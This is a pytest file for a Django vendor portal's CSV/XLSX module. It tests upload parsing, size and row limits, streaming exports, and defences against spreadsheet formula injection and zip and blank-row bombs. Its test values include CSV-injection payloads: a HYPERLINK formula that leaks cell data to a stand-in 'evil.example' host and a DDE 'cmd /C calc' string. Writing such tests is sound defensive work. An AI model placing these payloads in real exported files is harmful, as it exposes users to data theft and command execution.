"""The core's CSV/XLSX pieces: reading an upload into numbered rows, refusing what cannot be read, and
writing downloads a spreadsheet program opens safely."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import StreamingHttpResponse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import Workbook, load_workbook

from vendor_portal import tables
from vendor_portal.tables import (
    CSV_CONTENT_TYPE,
    XLSX_CONTENT_TYPE,
    Sheet,
    UploadError,
    cell_text,
    csv_cell,
    csv_stream_response,
    csv_write,
    read_table,
    upload_read,
    xlsx_response,
    xlsx_write,
)


def xlsx_bytes(*rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# Reading ------------------------------------------------------------------------------------------------
def test_csv_with_a_utf8_bom_and_semicolons_reads_into_numbered_rows():
    content = "\ufeffPO Number;Vendor SKU\nPO-1;SKU-A\n;\n  ;\nPO-2;Kühlschrank\n".encode()
    header, rows = read_table("orders.csv", content)
    assert header == ["po_number", "vendor_sku"]
    assert rows == [(2, ["PO-1", "SKU-A"]), (5, ["PO-2", "Kühlschrank"])]  # blank rows skipped, numbers kept


def test_xlsx_rows_keep_their_cell_types():
    content = xlsx_bytes(["week_start", "mean", "note"], [datetime.date(2030, 5, 6), 12.5, None], [None, None, None], ["", 3, "x"])
    header, rows = read_table("forecast.XLSX", content)
    assert header[:3] == ["week_start", "mean", "note"] and not any(header[3:])  # padded to the columns read
    assert [(number, cells[:3]) for number, cells in rows] == [(2, [datetime.datetime(2030, 5, 6), 12.5, None]), (4, [None, 3, "x"])]


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("orders.txt", b"po_number\n", "orders.txt is not a CSV or XLSX file"),
        ("orders", b"po_number\n", "is not a CSV or XLSX file"),
        ("orders.csv", b"", "The file is empty"),
        ("orders.csv", "po_number;vendor_code\n".encode("utf-16"), "orders.csv is not UTF-8 text"),
        ("orders.csv", "po_number\nPO-1\n".encode("latin-1") + b"\xe9\n", "is not UTF-8 text"),
        ("orders.csv", b"po_number\x00\n", "orders.csv is not a CSV file"),
        ("orders.xlsx", b"po_number\n", "orders.xlsx is not a valid XLSX workbook"),
        ("orders.xlsx", b"PK\x03\x04 broken zip", "is not a valid XLSX workbook"),
        ("orders.csv", b"\n\n", "The file has no header row"),
    ],
)
def test_files_that_cannot_be_read_are_refused_as_a_whole(name, content, message):
    with pytest.raises(UploadError) as refused:
        read_table(name, content)
    assert message in refused.value.message


def test_a_csv_cell_too_large_to_read_is_refused_not_a_crash():
    with pytest.raises(UploadError, match="Row 2 of orders.csv cannot be read"):
        read_table("orders.csv", b"po_number\n" + b"x" * 200_000 + b"\n")


def test_files_above_the_size_or_row_limit_are_refused():
    content = b"po_number\n" + b"PO-1\n" * 3
    assert len(read_table("orders.csv", content, max_rows=3)[1]) == 3
    with pytest.raises(UploadError, match="more than 2 lines"):
        read_table("orders.csv", content, max_rows=2)
    with pytest.raises(UploadError, match="The file is 2 KB; the limit is 1 KB"):
        read_table("orders.csv", content + b"x" * 2048, max_bytes=1024)


def test_an_upload_above_the_limit_is_refused_before_it_is_read():
    class Upload:
        name, size = "orders.csv", 4096

        def read(self):
            raise AssertionError("read a file that was too large")

    with pytest.raises(UploadError, match="The file is 4 KB; the limit is 2 KB"):
        upload_read(Upload(), max_bytes=2048)
    assert upload_read(SimpleUploadedFile("orders.csv", b"po_number\n"), max_bytes=2048) == ("orders.csv", b"po_number\n")


@pytest.mark.parametrize("value, text", [(None, ""), (24.0, "24"), (12.5, "12.5"), ("  SKU-A ", "SKU-A"), (7, "7")])
def test_cell_text(value, text):
    assert cell_text(value) == text


# Writing --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value, text",
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),  # a number stays a number
        ("+1.5", "+1.5"),
        (Decimal("-12.30"), "-12.30"),
        ("Kettle - steel", "Kettle - steel"),
        (None, ""),
        (datetime.date(2030, 5, 6), "2030-05-06"),
        (datetime.datetime(2030, 5, 6, 9, 30, 12), "2030-05-06 09:30"),
    ],
)
def test_csv_cell_quotes_what_a_spreadsheet_would_run_as_a_formula(value, text):
    assert csv_cell(value) == text


def test_csv_cell_writes_date_times_in_local_time():
    moment = datetime.datetime(2030, 5, 6, 22, 15, tzinfo=datetime.UTC)
    with timezone.override("Europe/Berlin"):
        assert csv_cell(moment) == "2030-05-07 00:15"


def test_csv_stream_response_is_a_streamed_attachment_in_utf8_with_a_bom():
    response = csv_stream_response(["Reference", "Amount"], [["=cmd", Decimal("1.50")], ["Ünïcode", None], ["\tx", Decimal("-5")]], "deductions")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == CSV_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="deductions.csv"'
    content = response.getvalue()
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["Reference", "Amount"], ["'=cmd", "1.50"], ["Ünïcode", ""], ["'\tx", "-5"]]


def test_csv_stream_sends_the_header_before_asking_for_a_row_and_then_chunks_of_rows(monkeypatch):
    monkeypatch.setattr(tables, "CSV_CHUNK_CHARS", 10)
    asked = []

    def rows():
        for n in range(3):
            asked.append(n)
            yield [f"row-{n}", n]

    chunks = iter(csv_stream_response(["Name", "N"], rows(), "x", bom=False).streaming_content)
    assert next(chunks) == b"Name,N\r\n" and asked == []
    assert b"".join(chunks) == b"row-0,0\r\nrow-1,1\r\nrow-2,2\r\n" and asked == [0, 1, 2]


def test_csv_stream_writes_in_the_language_and_time_zone_of_the_view_that_made_it():
    moment = datetime.datetime(2030, 5, 6, 22, 15, tzinfo=datetime.UTC)
    with timezone.override("Europe/Berlin"), translation.override("zh-hans"):
        response = csv_stream_response(["When", "Changed"], ([moment, gettext("yes")] for _ in range(1)), "x")
    with timezone.override("UTC"), translation.override("en"):  # as the server sends the body, after the view
        content = response.getvalue().decode("utf-8-sig")
    assert content.splitlines()[1] == "2030-05-07 00:15,是"


def test_csv_write_and_xlsx_write_fill_a_file(tmp_path):
    with open(tmp_path / "a.csv", "wb") as target:
        csv_write(target, ["A"], iter([["@x"], [1]]))
    assert (tmp_path / "a.csv").read_bytes() == "\ufeffA\r\n'@x\r\n1\r\n".encode()
    xlsx_write(str(tmp_path / "a.xlsx"), [Sheet("S", ["A"], iter([[1], [2]]))])
    assert [row for row in load_workbook(tmp_path / "a.xlsx").active.iter_rows(values_only=True)] == [("A",), (1,), (2,)]


def test_xlsx_response_writes_each_sheet_with_a_bold_header_and_number_formats():
    moment = datetime.datetime(2030, 5, 6, 22, 15, tzinfo=datetime.UTC)
    sheets = [
        Sheet("Deductions", ["Amount", "Raised", "Due"], [[Decimal("12.50"), moment, datetime.date(2030, 6, 1)]], freeze_panes="B2"),
        Sheet("Plain " + "x" * 40, ["Mean"], iter([[Decimal("3.25")]]), number_formats=False),
    ]
    with timezone.override("Europe/Berlin"):
        response = xlsx_response(sheets, "report")
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="report.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    first, second = workbook.worksheets
    assert (first.title, second.title) == ("Deductions", ("Plain " + "x" * 40)[:31])
    assert first.freeze_panes == "B2" and first["A1"].font.bold
    assert [cell.value for cell in first[2]] == [12.5, datetime.datetime(2030, 5, 7, 0, 15), datetime.datetime(2030, 6, 1)]
    assert [cell.number_format for cell in first[2]] == ["#,##0.00", "yyyy-mm-dd hh:mm", "yyyy-mm-dd"]
    assert second["A2"].value == 3.25 and second["A2"].number_format == "General"


# Formula cells, blank-row and unpacking bombs -------------------------------------------------------------
def test_xlsx_write_keeps_what_a_spreadsheet_would_run_as_a_formula_as_text(tmp_path):
    import zipfile

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1"]
    rows = [[*hostile, "-5", "plain"]]
    xlsx_write(str(tmp_path / "formatted.xlsx"), [Sheet("S", [f"c{i}" for i in range(7)], iter(rows))])
    xlsx_write(str(tmp_path / "plain.xlsx"), [Sheet("S", [f"c{i}" for i in range(7)], iter(rows), number_formats=False)])
    for name in ("formatted.xlsx", "plain.xlsx"):
        with zipfile.ZipFile(tmp_path / name) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml"), "a formula was written"
        sheet = load_workbook(tmp_path / name).active
        cells = list(sheet[2])
        assert [cell.value for cell in cells] == [*hostile, "-5", "plain"]  # the text itself, unchanged
        assert all(cell.data_type == "s" for cell in cells)
        assert [cell.quotePrefix for cell in cells[:5]] == [True] * 5  # kept text when someone edits the cell
        assert not cells[6].quotePrefix


def _blank_rows_workbook(header: list[str], blank_rows: int) -> bytes:
    """A workbook whose sheet has the header and then `blank_rows` rows each holding one empty, styled cell,
    as a spreadsheet program writes rows someone formatted, and says so in its dimension (60 columns wide,
    which openpyxl pads every row to): tiny once zipped."""
    import re
    import zipfile

    base = xlsx_bytes(header)
    rows = '<row><c s="0"/></row>' * blank_rows  # numbered in order, as the format allows
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</row></sheetData>", b"</row>" + rows.encode() + b"</sheetData>")
                data = re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="A1:BH{blank_rows + 1}"/>'.encode(), data)
                assert rows.encode() in data
            target.writestr(item.filename, data)
    return buffer.getvalue()


def test_a_workbook_of_a_million_blank_rows_is_refused_at_the_row_limit_quickly():
    import time

    from purchase_orders.imports import REQUIRED_COLUMNS, parse_purchase_orders

    content = _blank_rows_workbook(list(REQUIRED_COLUMNS), 1_000_000)
    assert len(content) < tables.UPLOAD_MAX_BYTES
    started = time.perf_counter()
    with pytest.raises(UploadError, match="more than 5000 lines") as refused:
        parse_purchase_orders("orders.xlsx", content)
    assert time.perf_counter() - started < 5
    assert "blank lines count too" in refused.value.message

    # the header is checked before any other row is read: a wrong one is refused at once
    started = time.perf_counter()
    with pytest.raises(UploadError, match="Missing columns"):
        parse_purchase_orders("orders.xlsx", _blank_rows_workbook(["note"], 1_000_000))
    assert time.perf_counter() - started < 5


def test_blank_rows_count_towards_the_row_limit_and_the_header_check_comes_first():
    content = b"po_number\n" + b"\n" * 3 + b"PO-1\n"
    assert read_table("orders.csv", content, max_rows=4)[1] == [(5, ["PO-1"])]
    with pytest.raises(UploadError, match="more than 3 lines"):
        read_table("orders.csv", content, max_rows=3)
    seen = []

    def check_header(header):
        seen.append(header)
        raise UploadError("no po_number")

    with pytest.raises(UploadError, match="no po_number"):
        read_table("orders.csv", b"vendor\n" + b"x\n" * 10, check_header=check_header)
    assert seen == [["vendor"]]


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_opened():
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(["po_number"]))) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item.filename, source.read(item.filename))
        target.writestr("xl/padding.bin", b"\0" * (tables.XLSX_MAX_UNPACKED + 1))
    assert len(buffer.getvalue()) < tables.UPLOAD_MAX_BYTES
    with pytest.raises(UploadError, match="unpacks to more than 64 MB"):
        read_table("orders.xlsx", buffer.getvalue())
